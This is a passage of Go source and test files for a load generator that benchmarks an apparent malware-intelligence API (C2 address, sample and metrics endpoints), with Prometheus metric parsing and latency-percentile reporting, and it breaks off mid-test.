	scrape0, haveScrape := scrapeMetrics(client, cfg.DebugAddr)

	// The queue is sized for the whole open-loop backlog: a stalled
	// daemon must never push back on the arrival process.
	capHint := cfg.Concurrency * 16
	if cfg.Rate > 0 {
		capHint = int(cfg.Rate*cfg.Duration.Seconds()) + cfg.Concurrency
	}
	queue := make(chan item, capHint)

	var wg sync.WaitGroup
	perWorker := make([][]sample, cfg.Concurrency)
	for w := 0; w < cfg.Concurrency; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for it := range queue {
				perWorker[w] = append(perWorker[w], doRequest(client, cfg.Target, it, addrs))
			}
		}(w)
	}

	sched := NewSchedule(cfg.Seed)
	start := time.Now()
	deadline := start.Add(cfg.Duration)
	if cfg.Rate > 0 {
		interval := time.Duration(float64(time.Second) / cfg.Rate)
		for due, i := start, 0; due.Before(deadline); i++ {
			if d := time.Until(due); d > 0 {
				time.Sleep(d)
			}
			queue <- item{q: sched.Next(), due: due}
			due = start.Add(time.Duration(i+1) * interval)
		}
	} else {
		for time.Now().Before(deadline) {
			queue <- item{q: sched.Next()}
		}
	}
	close(queue)
	wg.Wait()
	elapsed := time.Since(start)

	var all []sample
	for _, s := range perWorker {
		all = append(all, s...)
	}
	sum := summarize(cfg, all, elapsed)
	sum.Target = cfg.Target
	sum.Generation = generation
	if haveMallocs && sum.Requests > 0 {
		if mallocs1, ok := serverMallocs(client, cfg.DebugAddr); ok {
			v := float64(mallocs1-mallocs0) / float64(sum.Requests)
			sum.ServerAllocsOp = &v
		}
	}
	if haveScrape {
		if scrape1, ok := scrapeMetrics(client, cfg.DebugAddr); ok {
			sum.Server = serverDeltas(scrape0, scrape1)
		}
	}
	sum.Results = append(benchRows(sum), serverBenchRows(sum.Server)...)
	return sum, nil
}

// doRequest issues one query and times it. Open-loop latency runs
// from the scheduled start when one was set.
func doRequest(client *http.Client, target string, it item, addrs []string) sample {
	path := it.q.Path
	if it.q.C2Rank >= 0 {
		if len(addrs) == 0 {
			// No index to resolve against: degrade to the headline,
			// keeping the arrival (an open loop never skips a slot).
			path = "/v1/headline"
		} else {
			path = "/v1/c2/" + addrs[it.q.C2Rank%len(addrs)]
		}
	}
	start := time.Now()
	anchor := start
	if !it.due.IsZero() {
		anchor = it.due
	}
	resp, err := client.Get(target + path)
	if err != nil {
		return sample{endpoint: it.q.Endpoint, ns: float64(time.Since(anchor).Nanoseconds()), status: 0, failed: true}
	}
	_, cerr := io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	ns := float64(time.Since(anchor).Nanoseconds())
	return sample{
		endpoint: it.q.Endpoint,
		ns:       ns,
		status:   resp.StatusCode,
		failed:   cerr != nil || resp.StatusCode >= 500,
	}
}

// discover pulls the served generation and the C2 address index the
// rank placeholders resolve against.
func discover(client *http.Client, cfg Config) (generation string, addrs []string, err error) {
	var head struct {
		Generation string `json:"generation"`
	}
	if err := getJSON(client, cfg.Target+"/v1/headline", &head); err != nil {
		return "", nil, fmt.Errorf("loadgen: discovering target: %w", err)
	}
	cursor := 0
	for len(addrs) < cfg.MaxC2 {
		var page struct {
			Addresses  []string `json:"addresses"`
			NextCursor *int     `json:"next_cursor"`
		}
		url := fmt.Sprintf("%s/v1/c2?limit=500&cursor=%d", cfg.Target, cursor)
		if err := getJSON(client, url, &page); err != nil {
			return "", nil, fmt.Errorf("loadgen: walking /v1/c2: %w", err)
		}
		addrs = append(addrs, page.Addresses...)
		if page.NextCursor == nil {
			break
		}
		cursor = *page.NextCursor
	}
	if len(addrs) > cfg.MaxC2 {
		addrs = addrs[:cfg.MaxC2]
	}
	return head.Generation, addrs, nil
}

// serverMallocs samples the daemon's expvar memstats.Mallocs — the
// counter behind the reported server-side allocs/op.
func serverMallocs(client *http.Client, debugAddr string) (uint64, bool) {
	if debugAddr == "" {
		return 0, false
	}
	var vars struct {
		Memstats struct {
			Mallocs uint64 `json:"Mallocs"`
		} `json:"memstats"`
	}
	if err := getJSON(client, "http://"+debugAddr+"/debug/vars", &vars); err != nil {
		return 0, false
	}
	return vars.Memstats.Mallocs, true
}

func getJSON(client *http.Client, url string, v any) error {
	resp, err := client.Get(url)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		body, _ := io.ReadAll(io.LimitReader(resp.Body, 512))
		return fmt.Errorf("GET %s: status %d: %s", url, resp.StatusCode, body)
	}
	return json.NewDecoder(resp.Body).Decode(v)
}

// summarize folds the collected samples into the summary: overall and
// per-endpoint counts, error totals, and latency percentiles.
func summarize(cfg Config, all []sample, elapsed time.Duration) *Summary {
	sum := &Summary{
		Seed:        cfg.Seed,
		Concurrency: cfg.Concurrency,
		RatePerSec:  cfg.Rate,
		DurationSec: elapsed.Seconds(),
		Status:      map[string]int64{},
	}
	byEP := map[string][]float64{}
	errsByEP := map[string]int64{}
	for _, s := range all {
		sum.Requests++
		if s.failed {
			sum.Errors++
			errsByEP[s.endpoint]++
		}
		if s.status == 0 {
			sum.Status["transport-error"]++
		} else {
			sum.Status[fmt.Sprint(s.status)]++
		}
		byEP[s.endpoint] = append(byEP[s.endpoint], s.ns)
	}
	if elapsed > 0 {
		sum.ThroughputRPS = float64(sum.Requests) / elapsed.Seconds()
	}
	eps := make([]string, 0, len(byEP))
	for ep := range byEP {
		eps = append(eps, ep)
	}
	sort.Strings(eps)
	for _, ep := range eps {
		lats := byEP[ep]
		sort.Float64s(lats)
		mean := 0.0
		for _, v := range lats {
			mean += v
		}
		mean /= float64(len(lats))
		sum.Endpoints = append(sum.Endpoints, EndpointSummary{
			Endpoint: ep,
			Requests: int64(len(lats)),
			Errors:   errsByEP[ep],
			MeanNs:   mean,
			P50Ns:    percentile(lats, 0.50),
			P99Ns:    percentile(lats, 0.99),
			P999Ns:   percentile(lats, 0.999),
		})
	}
	return sum
}

// percentile reads the q-quantile from ascending-sorted lats
// (nearest-rank definition).
func percentile(lats []float64, q float64) float64 {
	if len(lats) == 0 {
		return 0
	}
	idx := int(q*float64(len(lats))+0.5) - 1
	if idx < 0 {
		idx = 0
	}
	if idx >= len(lats) {
		idx = len(lats) - 1
	}
	return lats[idx]
}

// benchRows renders the summary as benchjson result rows: one per
// endpoint plus a total, named under LoadServe/ so they sort next to
// the Go benchmarks in BENCH_<date>.json.
func benchRows(sum *Summary) []BenchRow {
	rows := make([]BenchRow, 0, len(sum.Endpoints)+1)
	var meanAll float64
	for _, ep := range sum.Endpoints {
		meanAll += ep.MeanNs * float64(ep.Requests)
		m := map[string]float64{
			"p50-ns":  ep.P50Ns,
			"p99-ns":  ep.P99Ns,
			"p999-ns": ep.P999Ns,
		}
		if ep.Requests > 0 {
			m["err-rate"] = float64(ep.Errors) / float64(ep.Requests)
		}
		rows = append(rows, BenchRow{
			Name:       "LoadServe/" + ep.Endpoint,
			Iterations: ep.Requests,
			NsPerOp:    ep.MeanNs,
			Metrics:    m,
		})
	}
	total := BenchRow{
		Name:       "LoadServe/total",
		Iterations: sum.Requests,
		Metrics: map[string]float64{
			"rps": sum.ThroughputRPS,
		},
	}
	if sum.Requests > 0 {
		total.NsPerOp = meanAll / float64(sum.Requests)
		total.Metrics["err-rate"] = float64(sum.Errors) / float64(sum.Requests)
	}
	if sum.ServerAllocsOp != nil {
		total.Metrics["server-allocs/op"] = *sum.ServerAllocsOp
	}
	return append(rows, total)
}
