package loadgen

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"sync/atomic"
	"testing"
	"time"
)

var update = flag.Bool("update", false, "rewrite golden files")

// TestScheduleGolden pins the deterministic query schedule and the
// summary's JSON shape: cmd/malnetbench's -duration 0 mode emits
// exactly these bytes for seed 7, so a drift in the zipf draw order,
// the endpoint mix, or the output format is a deliberate, reviewed
// change — regenerate with `go test ./internal/loadgen -update`.
func TestScheduleGolden(t *testing.T) {
	sum := ScheduleOnly(Config{Seed: 7, Concurrency: 8, Rate: 500}, 64)
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetIndent("", "  ")
	if err := enc.Encode(sum); err != nil {
		t.Fatal(err)
	}
	golden := filepath.Join("testdata", "schedule_seed7.golden.json")
	if *update {
		if err := os.WriteFile(golden, buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("updated %s", golden)
		return
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("reading golden (run with -update to create): %v", err)
	}
	if !bytes.Equal(buf.Bytes(), want) {
		t.Fatalf("schedule-only summary drifted from %s:\ngot:\n%s\nwant:\n%s", golden, buf.Bytes(), want)
	}
}

// TestScheduleDeterminism double-checks the property the golden file
// rests on: two schedules from one seed agree far past the golden
// prefix, and a different seed diverges.
func TestScheduleDeterminism(t *testing.T) {
	a, b := NewSchedule(11), NewSchedule(11)
	for i := 0; i < 10000; i++ {
		if qa, qb := a.Next(), b.Next(); qa != qb {
			t.Fatalf("same-seed schedules diverged at %d: %+v vs %+v", i, qa, qb)
		}
	}
	c, d := NewSchedule(11), NewSchedule(12)
	same := 0
	for i := 0; i < 1000; i++ {
		if c.Next() == d.Next() {
			same++
		}
	}
	if same == 1000 {
		t.Fatal("seeds 11 and 12 produced identical schedules")
	}
}

// TestScheduleMix sanity-checks the zipf shape: samples dominate, the
// head family outdraws the tail, every endpoint appears.
func TestScheduleMix(t *testing.T) {
	s := NewSchedule(3)
	counts := map[string]int{}
	miraiQ, vpnfilterQ := 0, 0
	const n = 20000
	for i := 0; i < n; i++ {
		q := s.Next()
		counts[q.Endpoint]++
		if q.Endpoint == "samples" {
			if bytes.Contains([]byte(q.Path), []byte("family=mirai")) {
				miraiQ++
			}
			if bytes.Contains([]byte(q.Path), []byte("family=vpnfilter")) {
				vpnfilterQ++
			}
		}
	}
	for _, ep := range []string{"samples", "c2_point", "c2_index", "attacks", "query", "headline", "metrics"} {
		if counts[ep] == 0 {
			t.Fatalf("endpoint %s never scheduled in %d draws: %v", ep, n, counts)
		}
	}
	if counts["samples"] < n/3 {
		t.Fatalf("samples is %d of %d draws, want the dominant share", counts["samples"], n)
	}
	if miraiQ <= vpnfilterQ*5 {
		t.Fatalf("zipf head not heavy: mirai=%d vpnfilter=%d", miraiQ, vpnfilterQ)
	}
}

func TestPercentile(t *testing.T) {
	lats := make([]float64, 1000)
	for i := range lats {
		lats[i] = float64(i + 1)
	}
	for _, tc := range []struct {
		q    float64
		want float64
	}{{0.50, 500}, {0.99, 990}, {0.999, 999}} {
		if got := percentile(lats, tc.q); got != tc.want {
			t.Fatalf("percentile(1..1000, %v) = %v, want %v", tc.q, got, tc.want)
		}
	}
	if got := percentile(nil, 0.5); got != 0 {
		t.Fatalf("percentile(nil) = %v", got)
	}
}

// TestRunAgainstStub drives the full open-loop runner against a stub
// /v1 API and checks the summary arithmetic: every arrival lands, C2
// ranks resolve to real addresses, errors are counted, and the bench
// rows carry the totals.
func TestRunAgainstStub(t *testing.T) {
	var hits atomic.Int64
	mux := http.NewServeMux()
	mux.HandleFunc("/v1/headline", func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		fmt.Fprintln(w, `{"generation":"feedface","day":3}`)
	})
	mux.HandleFunc("/v1/c2", func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		fmt.Fprintln(w, `{"addresses":["10.0.0.1:23","10.0.0.2:23"]}`)
	})
	mux.HandleFunc("/v1/c2/{addr}", func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		if a := r.PathValue("addr"); a != "10.0.0.1:23" && a != "10.0.0.2:23" {
			t.Errorf("c2 rank resolved to unknown address %q", a)
		}
		fmt.Fprintln(w, `{"record":{}}`)
	})
	for _, p := range []string{"/v1/samples", "/v1/attacks", "/v1/query", "/v1/metrics"} {
		mux.HandleFunc(p, func(w http.ResponseWriter, r *http.Request) {
			hits.Add(1)
			fmt.Fprintln(w, `{}`)
		})
	}
	ts := httptest.NewServer(mux)
	defer ts.Close()

	sum, err := Run(Config{
		Target:      ts.URL,
		Concurrency: 4,
		Rate:        400,
		Duration:    500 * time.Millisecond,
		Seed:        7,
	})
	if err != nil {
		t.Fatal(err)
	}
	if sum.Generation != "feedface" {
		t.Fatalf("generation %q, want feedface", sum.Generation)
	}
	if sum.Requests == 0 || sum.ThroughputRPS == 0 {
		t.Fatalf("no load delivered: %+v", sum)
	}
	if sum.Errors != 0 {
		t.Fatalf("%d errors against a healthy stub: %v", sum.Errors, sum.Status)
	}
	// Open loop at 400/s for 0.5s: within scheduling slop of 200
	// arrivals, and never more than the schedule allows.
	if sum.Requests < 100 || sum.Requests > 250 {
		t.Fatalf("open loop delivered %d requests, want ~200", sum.Requests)
	}
	var total *BenchRow
	epRows := 0
	for i := range sum.Results {
		if sum.Results[i].Name == "LoadServe/total" {
			total = &sum.Results[i]
		} else {
			epRows++
		}
	}
	if total == nil || total.Iterations != sum.Requests {
		t.Fatalf("bench rows missing or wrong total: %+v", sum.Results)
	}
	if epRows != len(sum.Endpoints) {
		t.Fatalf("%d endpoint rows for %d endpoints", epRows, len(sum.Endpoints))
	}
	for _, ep := range sum.Endpoints {
		if ep.P50Ns <= 0 || ep.P999Ns < ep.P99Ns || ep.P99Ns < ep.P50Ns {
			t.Fatalf("endpoint %s has inconsistent percentiles: %+v", ep.Endpoint, ep)
		}
	}
}

// TestRunCountsServerErrors makes a failing daemon visible in the
// summary: 5xx responses are errors, 4xx are recorded but not
// conflated with failure.
func TestRunCountsServerErrors(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/v1/headline", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintln(w, `{"generation":"deadbeef"}`)
	})
	mux.HandleFunc("/v1/c2", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintln(w, `{"addresses":[]}`)
	})
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "boom", http.StatusInternalServerError)
	})
	ts := httptest.NewServer(mux)
	defer ts.Close()

	sum, err := Run(Config{Target: ts.URL, Concurrency: 2, Rate: 200, Duration: 200 * time.Millisecond, Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	if sum.Requests == 0 || sum.Errors == 0 {
		t.Fatalf("5xx responses not counted as errors: %+v", sum)
	}
	if sum.Status["500"] == 0 {
		t.Fatalf("status histogram missing 500s: %v", sum.Status)
	}
}
