package loadgen

import (
	"bufio"
	"fmt"
	"io"
	"net/http"
	"sort"
	"strconv"
	"strings"
)

// This file closes the observability loop: the load generator scrapes
// the daemon's /metrics exposition (internal/obs/redplane) before and
// after the run and reports the *server's* view of the same burst —
// RED deltas and histogram-derived percentiles — next to the client's
// coordinated-omission-corrected percentiles. The two disagree by
// exactly the queueing the client saw, which is the point of having
// both columns.

// ServerEndpoint is one endpoint's server-side RED delta over the run
// window, scraped from /metrics.
type ServerEndpoint struct {
	Endpoint string `json:"endpoint"`
	Requests int64  `json:"requests"`
	// Errors counts 5xx responses; the client-side error column also
	// includes transport failures the server never saw.
	Errors      int64   `json:"errors"`
	MeanNs      float64 `json:"mean_ns"`
	P50Ns       float64 `json:"p50_ns"`
	P99Ns       float64 `json:"p99_ns"`
	P999Ns      float64 `json:"p999_ns"`
	RowsScanned int64   `json:"rows_scanned"`
	Bytes       int64   `json:"bytes"`
	CacheHit    int64   `json:"cache_hit"`
	CacheMiss   int64   `json:"cache_miss"`
	CacheCoal   int64   `json:"cache_coalesced"`
}

// promSample is one parsed exposition line.
type promSample struct {
	name   string
	labels map[string]string
	value  float64
}

// promScrape is one parsed /metrics response.
type promScrape struct {
	samples []promSample
}

// parseProm parses the Prometheus text exposition format (the subset
// redplane emits: # comments, then `name{label="v",...} value`). It
// is strict — a malformed line is an error, not a skip — so the smoke
// test's well-formedness assertion and this parser agree on what
// "well-formed" means.
func parseProm(r io.Reader) (*promScrape, error) {
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 1024*1024)
	out := &promScrape{}
	for sc.Scan() {
		line := sc.Text()
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		s, err := parsePromLine(line)
		if err != nil {
			return nil, err
		}
		out.samples = append(out.samples, s)
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}
	return out, nil
}

func parsePromLine(line string) (promSample, error) {
	s := promSample{labels: map[string]string{}}
	rest := line
	if i := strings.IndexAny(rest, "{ "); i < 0 {
		return s, fmt.Errorf("prom: no value on line %q", line)
	} else {
		s.name = rest[:i]
		rest = rest[i:]
	}
	if s.name == "" {
		return s, fmt.Errorf("prom: empty metric name in %q", line)
	}
	if strings.HasPrefix(rest, "{") {
		rest = rest[1:]
		for {
			eq := strings.Index(rest, "=")
			if eq < 0 || !strings.HasPrefix(rest[eq+1:], `"`) {
				return s, fmt.Errorf("prom: malformed labels in %q", line)
			}
			key := rest[:eq]
			rest = rest[eq+2:]
			val, n, err := promUnquote(rest)
			if err != nil {
				return s, fmt.Errorf("prom: %v in %q", err, line)
			}
			s.labels[key] = val
			rest = rest[n:]
			if strings.HasPrefix(rest, ",") {
				rest = rest[1:]
				continue
			}
			if strings.HasPrefix(rest, "}") {
				rest = rest[1:]
				break
			}
			return s, fmt.Errorf("prom: malformed labels in %q", line)
		}
	}
	rest = strings.TrimPrefix(rest, " ")
	v, err := strconv.ParseFloat(strings.TrimSpace(rest), 64)
	if err != nil {
		return s, fmt.Errorf("prom: bad value %q in %q", rest, line)
	}
	s.value = v
	return s, nil
}

// promUnquote reads a label value up to its closing quote, resolving
// the format's three escapes (\\, \", \n); n is how much of in was
// consumed including the closing quote.
func promUnquote(in string) (val string, n int, err error) {
	var b strings.Builder
	for i := 0; i < len(in); i++ {
		switch c := in[i]; c {
		case '"':
			return b.String(), i + 1, nil
		case '\\':
			if i+1 >= len(in) {
				return "", 0, fmt.Errorf("truncated escape")
			}
			i++
			switch in[i] {
			case '\\':
				b.WriteByte('\\')
			case '"':
				b.WriteByte('"')
			case 'n':
				b.WriteByte('\n')
			default:
				return "", 0, fmt.Errorf("unknown escape \\%c", in[i])
			}
		default:
			b.WriteByte(c)
		}
	}
	return "", 0, fmt.Errorf("unterminated label value")
}

// sum adds every sample whose name has the given suffix and whose
// labels include want (extra labels are allowed, so callers can fold
// over e.g. all codes of one endpoint).
func (p *promScrape) sum(suffix string, want map[string]string) float64 {
	var total float64
sample:
	for _, s := range p.samples {
		if !strings.HasSuffix(s.name, suffix) {
			continue
		}
		for k, v := range want {
			if s.labels[k] != v {
				continue sample
			}
		}
		total += s.value
	}
	return total
}

// endpoints lists the distinct values of the endpoint label across
// request counters.
func (p *promScrape) endpoints() []string {
	seen := map[string]bool{}
	for _, s := range p.samples {
		if strings.HasSuffix(s.name, "_requests_total") {
			if ep := s.labels["endpoint"]; ep != "" {
				seen[ep] = true
			}
		}
	}
	out := make([]string, 0, len(seen))
	for ep := range seen {
		out = append(out, ep)
	}
	sort.Strings(out)
	return out
}

// histogram collects one endpoint's cumulative duration buckets,
// sorted by bound; +Inf rides last with bound = +Inf.
type promBucket struct {
	le    float64
	count float64
}

func (p *promScrape) buckets(endpoint string) []promBucket {
	var out []promBucket
	for _, s := range p.samples {
		if !strings.HasSuffix(s.name, "_request_duration_seconds_bucket") || s.labels["endpoint"] != endpoint {
			continue
		}
		le, err := parseLe(s.labels["le"])
		if err != nil {
			continue
		}
		out = append(out, promBucket{le: le, count: s.value})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].le < out[j].le })
	return out
}

func parseLe(s string) (float64, error) {
	if s == "+Inf" {
		return inf, nil
	}
	return strconv.ParseFloat(s, 64)
}

var inf = func() float64 { v, _ := strconv.ParseFloat("+Inf", 64); return v }()

// deltaBuckets subtracts the pre-run scrape from the post-run scrape,
// matching buckets by bound. A missing pre-run bucket (endpoint first
// seen during the run) counts as zero.
func deltaBuckets(t1, t0 []promBucket) []promBucket {
	base := map[float64]float64{}
	for _, b := range t0 {
		base[b.le] = b.count
	}
	out := make([]promBucket, len(t1))
	for i, b := range t1 {
		out[i] = promBucket{le: b.le, count: b.count - base[b.le]}
	}
	return out
}

// bucketQuantile interpolates the q-quantile (in nanoseconds) from
// cumulative delta buckets, the way Prometheus' histogram_quantile
// does: linear within the winning bucket, clamped to the highest
// finite bound when the quantile lands in +Inf.
func bucketQuantile(buckets []promBucket, q float64) float64 {
	if len(buckets) == 0 {
		return 0
	}
	total := buckets[len(buckets)-1].count
	if total <= 0 {
		return 0
	}
	rank := q * total
	prevLe, prevCount := 0.0, 0.0
	for _, b := range buckets {
		if b.count >= rank {
			if b.le == inf {
				// No upper bound to interpolate toward: report the
				// highest finite bound.
				return prevLe * 1e9
			}
			width := b.le - prevLe
			inBucket := b.count - prevCount
			frac := 1.0
			if inBucket > 0 {
				frac = (rank - prevCount) / inBucket
			}
			return (prevLe + width*frac) * 1e9
		}
		prevLe, prevCount = b.le, b.count
	}
	return prevLe * 1e9
}

// scrapeMetrics pulls and parses the daemon's /metrics; ok=false when
// the debug listener is absent or predates the exposition endpoint,
// so load runs against older daemons still work, just without the
// server-side columns.
func scrapeMetrics(client *http.Client, debugAddr string) (*promScrape, bool) {
	if debugAddr == "" {
		return nil, false
	}
	resp, err := client.Get("http://" + debugAddr + "/metrics")
	if err != nil {
		return nil, false
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, false
	}
	scrape, err := parseProm(resp.Body)
	if err != nil {
		return nil, false
	}
	return scrape, true
}

// serverDeltas folds two scrapes into per-endpoint server-side RED
// rows for every endpoint that saw traffic during the run.
func serverDeltas(t0, t1 *promScrape) []ServerEndpoint {
	var out []ServerEndpoint
	for _, ep := range t1.endpoints() {
		want := func(extra map[string]string) map[string]string {
			m := map[string]string{"endpoint": ep}
			for k, v := range extra {
				m[k] = v
			}
			return m
		}
		d := func(suffix string, extra map[string]string) float64 {
			return t1.sum(suffix, want(extra)) - t0.sum(suffix, want(extra))
		}
		requests := d("_requests_total", nil)
		if requests <= 0 {
			continue
		}
		row := ServerEndpoint{
			Endpoint:    ep,
			Requests:    int64(requests),
			Errors:      int64(d("_requests_total", map[string]string{"code": "5xx"})),
			RowsScanned: int64(d("_rows_scanned_total", nil)),
			Bytes:       int64(d("_response_bytes_total", nil)),
			CacheHit:    int64(d("_cache_outcomes_total", map[string]string{"outcome": "hit"})),
			CacheMiss:   int64(d("_cache_outcomes_total", map[string]string{"outcome": "miss"})),
			CacheCoal:   int64(d("_cache_outcomes_total", map[string]string{"outcome": "coalesced"})),
		}
		if count := d("_request_duration_seconds_count", nil); count > 0 {
			row.MeanNs = d("_request_duration_seconds_sum", nil) / count * 1e9
		}
		db := deltaBuckets(t1.buckets(ep), t0.buckets(ep))
		row.P50Ns = bucketQuantile(db, 0.50)
		row.P99Ns = bucketQuantile(db, 0.99)
		row.P999Ns = bucketQuantile(db, 0.999)
		out = append(out, row)
	}
	return out
}

// serverBenchRows renders the server-side rows in benchjson's result
// schema, named LoadServe/server/<endpoint> so they land next to the
// client-side LoadServe/<endpoint> rows in BENCH_<date>.json.
func serverBenchRows(server []ServerEndpoint) []BenchRow {
	rows := make([]BenchRow, 0, len(server))
	for _, ep := range server {
		m := map[string]float64{
			"p50-ns":  ep.P50Ns,
			"p99-ns":  ep.P99Ns,
			"p999-ns": ep.P999Ns,
		}
		if ep.Requests > 0 {
			m["err-rate"] = float64(ep.Errors) / float64(ep.Requests)
			m["rows/op"] = float64(ep.RowsScanned) / float64(ep.Requests)
			m["resp-B/op"] = float64(ep.Bytes) / float64(ep.Requests)
		}
		if served := ep.CacheHit + ep.CacheMiss + ep.CacheCoal; served > 0 {
			m["cache-hit-rate"] = float64(ep.CacheHit) / float64(served)
		}
		rows = append(rows, BenchRow{
			Name:       "LoadServe/server/" + ep.Endpoint,
			Iterations: ep.Requests,
			NsPerOp:    ep.MeanNs,
			Metrics:    m,
		})
	}
	return rows
}
