package loadgen

import (
	"io"
	"math"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

const scrapeT0 = `# HELP malnetd_requests_total Requests served, by endpoint and status class.
# TYPE malnetd_requests_total counter
malnetd_requests_total{endpoint="headline",code="2xx"} 10
malnetd_requests_total{endpoint="samples",code="2xx"} 100
malnetd_requests_total{endpoint="samples",code="4xx"} 5
# TYPE malnetd_request_duration_seconds histogram
malnetd_request_duration_seconds_bucket{endpoint="samples",le="0.001"} 50
malnetd_request_duration_seconds_bucket{endpoint="samples",le="0.01"} 100
malnetd_request_duration_seconds_bucket{endpoint="samples",le="+Inf"} 105
malnetd_request_duration_seconds_sum{endpoint="samples"} 0.5
malnetd_request_duration_seconds_count{endpoint="samples"} 105
malnetd_cache_outcomes_total{endpoint="samples",outcome="hit"} 80
malnetd_rows_scanned_total{endpoint="samples"} 1000
malnetd_response_bytes_total{endpoint="samples"} 50000
malnetd_store_swaps_total 0
`

const scrapeT1 = `malnetd_requests_total{endpoint="headline",code="2xx"} 10
malnetd_requests_total{endpoint="samples",code="2xx"} 300
malnetd_requests_total{endpoint="samples",code="4xx"} 5
malnetd_requests_total{endpoint="samples",code="5xx"} 2
malnetd_request_duration_seconds_bucket{endpoint="samples",le="0.001"} 150
malnetd_request_duration_seconds_bucket{endpoint="samples",le="0.01"} 300
malnetd_request_duration_seconds_bucket{endpoint="samples",le="+Inf"} 307
malnetd_request_duration_seconds_sum{endpoint="samples"} 1.51
malnetd_request_duration_seconds_count{endpoint="samples"} 307
malnetd_cache_outcomes_total{endpoint="samples",outcome="hit"} 260
malnetd_cache_outcomes_total{endpoint="samples",outcome="miss"} 20
malnetd_cache_outcomes_total{endpoint="samples",outcome="coalesced"} 22
malnetd_rows_scanned_total{endpoint="samples"} 5000
malnetd_response_bytes_total{endpoint="samples"} 150000
malnetd_store_swaps_total 1
`

func mustParse(t *testing.T, text string) *promScrape {
	t.Helper()
	s, err := parseProm(strings.NewReader(text))
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestParsePromText(t *testing.T) {
	s := mustParse(t, scrapeT0)
	if got := s.sum("_requests_total", map[string]string{"endpoint": "samples"}); got != 105 {
		t.Fatalf("samples requests = %v, want 105", got)
	}
	if got := s.sum("_store_swaps_total", nil); got != 0 {
		t.Fatalf("swaps = %v", got)
	}
	if eps := s.endpoints(); len(eps) != 2 || eps[0] != "headline" || eps[1] != "samples" {
		t.Fatalf("endpoints = %v", eps)
	}
	b := s.buckets("samples")
	if len(b) != 3 || b[0].le != 0.001 || !math.IsInf(b[2].le, 1) || b[2].count != 105 {
		t.Fatalf("buckets = %+v", b)
	}
}

func TestParsePromEscapesAndErrors(t *testing.T) {
	s := mustParse(t, `m{l="a\"b\\c\nd"} 1`+"\n")
	if got := s.samples[0].labels["l"]; got != "a\"b\\c\nd" {
		t.Fatalf("unescaped label = %q", got)
	}
	for _, bad := range []string{
		"no_value_here\n",
		`m{l="unterminated} 1` + "\n",
		`m{l="v"} notanumber` + "\n",
		`{l="v"} 1` + "\n",
	} {
		if _, err := parseProm(strings.NewReader(bad)); err == nil {
			t.Fatalf("parser accepted malformed input %q", bad)
		}
	}
}

func TestBucketQuantile(t *testing.T) {
	// 100 observations: 50 in (0, 1ms], 50 in (1ms, 10ms].
	b := []promBucket{{0.001, 50}, {0.01, 100}, {inf, 100}}
	if got := bucketQuantile(b, 0.50); got != 0.001*1e9 {
		t.Fatalf("p50 = %v, want 1ms", got)
	}
	// p75 lands halfway through the second bucket: 1ms + 0.5*9ms.
	if got, want := bucketQuantile(b, 0.75), 0.0055*1e9; math.Abs(got-want) > 1 {
		t.Fatalf("p75 = %v, want %v", got, want)
	}
	// Quantile in +Inf clamps to the highest finite bound.
	b2 := []promBucket{{0.001, 10}, {inf, 100}}
	if got := bucketQuantile(b2, 0.99); got != 0.001*1e9 {
		t.Fatalf("p99 in +Inf = %v, want clamp to 1ms", got)
	}
	if got := bucketQuantile(nil, 0.5); got != 0 {
		t.Fatalf("empty histogram quantile = %v", got)
	}
}

func TestScrapeMetrics(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/metrics", func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, scrapeT0)
	})
	ts := httptest.NewServer(mux)
	defer ts.Close()
	addr := strings.TrimPrefix(ts.URL, "http://")

	s, ok := scrapeMetrics(ts.Client(), addr)
	if !ok {
		t.Fatal("scrape against a live /metrics failed")
	}
	if got := s.sum("_requests_total", map[string]string{"endpoint": "samples"}); got != 105 {
		t.Fatalf("scraped samples requests = %v", got)
	}
	// Absent debug listener and a 404 both degrade to ok=false, never
	// an error — older daemons must still be loadable.
	if _, ok := scrapeMetrics(ts.Client(), ""); ok {
		t.Fatal("empty addr scraped")
	}
	if _, ok := scrapeMetrics(ts.Client(), addr+"/nope"); ok {
		t.Fatal("bad path scraped")
	}
}

func TestServerDeltas(t *testing.T) {
	rows := serverDeltas(mustParse(t, scrapeT0), mustParse(t, scrapeT1))
	// headline saw no traffic during the window: no row.
	if len(rows) != 1 {
		t.Fatalf("rows = %+v", rows)
	}
	r := rows[0]
	if r.Endpoint != "samples" || r.Requests != 202 || r.Errors != 2 {
		t.Fatalf("RED delta wrong: %+v", r)
	}
	if r.CacheHit != 180 || r.CacheMiss != 20 || r.CacheCoal != 22 {
		t.Fatalf("cache deltas wrong: %+v", r)
	}
	if r.RowsScanned != 4000 || r.Bytes != 100000 {
		t.Fatalf("rows/bytes deltas wrong: %+v", r)
	}
	// Mean from sum/count delta: (1.51-0.5)s / 202 requests.
	if want := (1.51 - 0.5) / 202 * 1e9; math.Abs(r.MeanNs-want) > 1 {
		t.Fatalf("mean = %v, want %v", r.MeanNs, want)
	}
	// Delta histogram: 100 in (0,1ms], 100 in (1ms,10ms], 2 in +Inf.
	// p50 rank is 101 of 202 — just inside the second bucket:
